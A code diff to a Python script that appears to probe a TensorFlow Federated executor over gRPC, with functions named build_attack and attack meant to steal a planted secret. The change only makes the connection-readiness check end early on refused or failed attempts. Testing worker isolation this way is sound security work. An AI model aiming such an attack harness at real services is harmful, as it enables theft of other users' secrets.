@@ -16,7 +16,9 @@ worked), "error"}. Every call has a deadline.
 from __future__ import annotations
 
 import json
+import queue
 import sys
+import time
 
 import other_user
 
@@ -37,6 +39,26 @@ def build_attack(secret: str, planted: str):
     return steal
 
 
+def settled(channel):
+    """The channel's state once its first connection attempt ends: READY, or TRANSIENT_FAILURE at once when
+    the worker closes the connection or the TLS handshake fails (waiting for READY would wait out the
+    deadline on every refused attempt); the last state seen after CONNECT_SECONDS."""
+    import grpc
+
+    states: queue.Queue = queue.Queue()
+    channel.subscribe(states.put, try_to_connect=True)
+    deadline = time.monotonic() + CONNECT_SECONDS
+    state = None
+    try:
+        while state not in (grpc.ChannelConnectivity.READY, grpc.ChannelConnectivity.TRANSIENT_FAILURE):
+            state = states.get(timeout=max(0.0, deadline - time.monotonic()))
+    except queue.Empty:
+        pass
+    finally:
+        channel.unsubscribe(states.put)
+    return state
+
+
 def attack(target: str, steal, credentials=None) -> dict:
     import grpc
     import tensorflow_federated as tff
@@ -46,9 +68,7 @@ def attack(target: str, steal, credentials=None) -> dict:
     channel = grpc.secure_channel(target, credentials) if credentials is not None else grpc.insecure_channel(target)
     try:
         stub = executor_pb2_grpc.ExecutorGroupStub(channel)  # TFF's service, with a deadline on each call
-        try:
-            grpc.channel_ready_future(channel).result(timeout=CONNECT_SECONDS)
-        except grpc.FutureTimeoutError:
+        if settled(channel) != grpc.ChannelConnectivity.READY:
             result["error"] = "the connection never became ready"
         result["stage"] = "get_executor"
         clients = executor_pb2.Cardinality(placement=computation_pb2.Placement(uri=tff.CLIENTS.uri), cardinality=1)
